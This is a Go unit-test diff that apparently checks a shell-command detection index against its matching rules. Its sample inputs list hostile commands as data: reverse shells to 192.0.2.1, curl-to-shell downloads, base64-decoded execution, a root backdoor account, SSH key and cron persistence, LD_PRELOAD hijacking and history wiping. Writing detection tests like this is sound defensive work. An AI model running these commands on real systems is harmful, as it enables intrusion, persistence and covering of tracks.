@@ -58,3 +58,20 @@ func TestIndexOfMany(t *testing.T) {
 		t.Errorf("got %d, want 41", got)
 	}
 }
+
+// TestShellRules holds that the words of the rules of shell stand in whatever they match.
+func TestShellRules(t *testing.T) {
+	may := make([]bool, len(shellRules))
+	for _, text := range []string{
+		"bash -i >& /dev/tcp/192.0.2.1/80 0>&1", "nc -e /bin/sh 192.0.2.1 80", "mkfifo /tmp/f; cat /tmp/f | sh -i | nc 192.0.2.1 1 > /tmp/f", "curl http://192.0.2.1/x | sh",
+		"echo aGVsbG8gd29ybGQgaGVsbG8= | base64 -d | sh", "useradd -o -u 0 x", "chmod 4755 /tmp/sh", "echo k >> ~/.ssh/authorized_keys", "eval $(printf 'x')", "insmod /tmp/x.ko", "history -c",
+		"export LD_PRELOAD=/tmp/x.so", "echo x >> /etc/ld.so.preload", "(crontab -l; echo '* * * * * x') | crontab -", "python -c 'import socket'", "chattr +i /etc/x", "trap 'curl http://192.0.2.1' EXIT", "wget -O /tmp/x http://192.0.2.1",
+	} {
+		shellTables().rules.candidates(text, may)
+		for i, r := range shellRules {
+			if r.re.MatchString(text) && !may[i] {
+				t.Errorf("%s matches %q, the index does not offer it", r.name, text)
+			}
+		}
+	}
+}
